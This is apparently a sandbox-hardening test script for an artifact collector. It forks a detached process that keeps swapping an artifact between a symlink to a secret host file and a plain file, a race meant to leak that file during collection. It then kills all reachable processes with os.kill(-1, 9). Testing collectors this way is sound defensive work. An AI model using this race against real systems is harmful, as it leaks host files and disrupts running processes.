# Swaps an artifact for a link to a file of the host, again and again, while it is collected.
# status: ok
# files: kept, x?
import time

with open("artifacts/kept", "w") as file:
    file.write("kept")
if os.fork() == 0:
    os.setsid()
    while True:
        for make in (
            lambda: os.symlink(secrets["file"], "artifacts/x"),
            lambda: open("artifacts/x", "w").close(),
        ):
            try:
                make()
                os.unlink("artifacts/x")
            except OSError:
                pass
time.sleep(0.1)
os.system("rm -f artifacts/x")
print("held: the parent ends", flush=True)
os.kill(-1, 9)
